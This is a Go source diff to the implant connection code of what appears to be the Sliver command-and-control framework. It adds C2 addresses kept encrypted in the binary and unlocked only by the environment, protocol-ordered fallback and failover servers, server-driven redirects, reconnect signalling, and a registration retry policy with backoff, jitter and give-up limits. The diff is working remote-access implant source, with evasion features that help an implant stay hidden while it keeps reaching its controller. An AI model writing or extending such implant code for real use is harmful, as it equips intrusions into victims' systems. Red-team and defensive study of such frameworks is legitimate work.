@@ -25,14 +25,24 @@ import (
 
 	insecureRand "math/rand"
 	"net/url"
+	"sort"
 	"strconv"
+	"strings"
+	"sync/atomic"
 	"time"
+
+	// {{if .Config.EnvKeyed}}
+	"github.com/bishopfox/sliver/implant/sliver/envkey"
+	// {{end}}
 )
 
 const (
 	strategyRandom       = "r"
 	strategyRandomDomain = "rd"
 	strategySequential   = "s"
+
+	backoffLinear      = "linear"
+	backoffExponential = "exponential"
 )
 
 // C2Generator - Creates a stream of C2 URLs based on a connection strategy
@@ -50,17 +60,42 @@ func C2Generator(abort <-chan struct{}, temporaryC2 ...string) <-chan *url.URL {
 			})
 		}
 	} else {
+		// {{if .Config.EnvKeyed}}
+		// The c2s are only in the binary encrypted, see envkey.Unlock
+		for _, c2 := range envkey.C2s() {
+			value := c2
+			c2Servers = append(c2Servers, func() string {
+				return value
+			})
+		}
+		// {{else}}
 		// {{range $index, $value := .Config.C2}}
 		c2Servers = append(c2Servers, func() string {
 			return "{{$value}}" // {{$index}}
 		})
 		// {{end}} - range
+		// {{end}}
+	}
+
+	// Until we've registered once C2s are tried in order of the fallback protocols
+	fallbackServers := []func() string{}
+	if len(temporaryC2) == 0 {
+		fallbackServers = fallbackOrder(c2Servers, `{{.Config.ConnectFallbackOrder}}`)
+	}
+
+	// A failover chain overrides the connection strategy, C2s are tried in the
+	// chain's order (see failoverChain)
+	failoverServers := []func() string{}
+	if len(temporaryC2) == 0 && IsFailover() {
+		failoverServers = fallbackOrder(c2Servers, `{{.Config.FailoverOrder}}`)
 	}
 
 	generator := make(chan *url.URL)
 	go func() {
 		defer close(generator)
 		c2Counter := uint(0)
+		fallbackCounter := uint(0)
+		redirectCounter := uint(0)
 		for {
 			var next string
 			switch "{{.Config.ConnectionStrategy}}" {
@@ -76,6 +111,18 @@ func C2Generator(abort <-chan struct{}, temporaryC2 ...string) <-chan *url.URL {
 			default:
 				next = c2Servers[c2Counter%uint(len(c2Servers))]()
 			}
+			if !IsRegistered() && 0 < len(fallbackServers) {
+				next = fallbackServers[fallbackCounter%uint(len(fallbackServers))]()
+				fallbackCounter++
+			}
+			if 0 < len(failoverServers) {
+				next = failoverServers[failover.next(len(failoverServers), time.Now())]()
+			}
+			// A redirect from the server overrides everything from generate time
+			if redirect := RedirectC2s(); len(temporaryC2) == 0 && 0 < len(redirect) {
+				next = redirect[redirectCounter%uint(len(redirect))]
+				redirectCounter++
+			}
 			c2Counter++
 			if ^uint(0) < c2Counter {
 				panic("counter overflow")
@@ -126,6 +173,39 @@ func randomCCDomain(ccServers []func() string, next string) string {
 	return pool[insecureRand.Intn(len(pool))]()
 }
 
+// fallbackOrder - Sort the C2s by the position of their protocol in the comma separated
+// order, C2s with protocols that aren't listed are dropped
+func fallbackOrder(ccServers []func() string, order string) []func() string {
+	rank := map[string]int{}
+	for index, protocol := range strings.Split(order, ",") {
+		if protocol != "" {
+			rank[protocol] = index
+		}
+	}
+	type rankedC2 struct {
+		cc   func() string
+		rank int
+	}
+	ranked := []rankedC2{}
+	for _, cc := range ccServers {
+		uri, err := url.Parse(cc())
+		if err != nil {
+			continue
+		}
+		if index, ok := rank[uri.Scheme]; ok {
+			ranked = append(ranked, rankedC2{cc: cc, rank: index})
+		}
+	}
+	sort.SliceStable(ranked, func(i, j int) bool {
+		return ranked[i].rank < ranked[j].rank
+	})
+	pool := []func() string{}
+	for _, c2 := range ranked {
+		pool = append(pool, c2.cc)
+	}
+	return pool
+}
+
 var (
 	// reconnectInterval - DO NOT ACCESS DIRECTLY
 	reconnectInterval = time.Duration(0)
@@ -200,3 +280,106 @@ func GetMaxConnectionErrors() int {
 	}
 	return maxConnectionErrors
 }
+
+// registered - Set once the implant has connected to the server
+var registered int32
+
+// IsRegistered - Has the implant successfully connected to the server at least once
+func IsRegistered() bool {
+	return atomic.LoadInt32(&registered) == 1
+}
+
+// SetRegistered - Mark the implant as registered, this ends the registration retry policy.
+// Called each time the implant connects.
+func SetRegistered() {
+	atomic.StoreInt32(&registered, 1)
+	failover.setConnected()
+}
+
+var (
+	// reconnectPending - Set when the implant was tasked to reconnect
+	reconnectPending int32
+	reconnectSignal  = make(chan struct{}, 1)
+)
+
+// Reconnect - Ask the implant to drop its current connection and reconnect to
+// the same C2, e.g. after its transport settings were changed at runtime
+func Reconnect() {
+	atomic.StoreInt32(&reconnectPending, 1)
+	select {
+	case reconnectSignal <- struct{}{}:
+	default:
+	}
+}
+
+// ReconnectSignal - Fires when Reconnect is called
+func ReconnectSignal() <-chan struct{} {
+	return reconnectSignal
+}
+
+// ReconnectPending - Has Reconnect been called since the last TakeReconnect
+func ReconnectPending() bool {
+	return atomic.LoadInt32(&reconnectPending) == 1
+}
+
+// TakeReconnect - Returns true once per call to Reconnect
+func TakeReconnect() bool {
+	select {
+	case <-reconnectSignal:
+	default:
+	}
+	return atomic.SwapInt32(&reconnectPending, 0) == 1
+}
+
+// GetRegistrationWait - Time to wait after the n-th failed registration attempt, the
+// reconnect interval is scaled by the backoff curve, capped, and then jittered
+func GetRegistrationWait(attempt int) time.Duration {
+	wait := GetReconnectInterval()
+	backoffMax := parseDuration(`{{.Config.ConnectBackoffMax}}`)
+	switch "{{.Config.ConnectBackoff}}" {
+	case backoffLinear:
+		wait *= time.Duration(attempt)
+	case backoffExponential:
+		for i := 1; i < attempt && i < 32; i++ {
+			if 0 < backoffMax && backoffMax < wait {
+				break
+			}
+			wait *= 2
+		}
+	}
+	if 0 < backoffMax && backoffMax < wait {
+		wait = backoffMax
+	}
+	jitter := parseDuration(`{{.Config.ConnectJitter}}`)
+	if 0 < jitter {
+		wait += time.Duration(insecureRand.Int63n(int64(jitter)))
+	}
+	return wait
+}
+
+// GiveUpRegistration - Check if the registration retry policy has been exhausted
+func GiveUpRegistration(attempts int, started time.Time) bool {
+	maxAttempts, err := strconv.Atoi(`{{.Config.ConnectMaxAttempts}}`)
+	if err == nil && 0 < maxAttempts && maxAttempts <= attempts {
+		// {{if .Config.Debug}}
+		log.Printf("Giving up after %d registration attempt(s)", attempts)
+		// {{end}}
+		return true
+	}
+	giveUp := parseDuration(`{{.Config.ConnectGiveUp}}`)
+	if 0 < giveUp && giveUp <= time.Since(started) {
+		// {{if .Config.Debug}}
+		log.Printf("Giving up after %s without registering", time.Since(started))
+		// {{end}}
+		return true
+	}
+	return false
+}
+
+func parseDuration(value string) time.Duration {
+	duration, err := strconv.ParseInt(value, 10, 64)
+	if err != nil {
+		return 0
+	}
+	return time.Duration(duration)
+}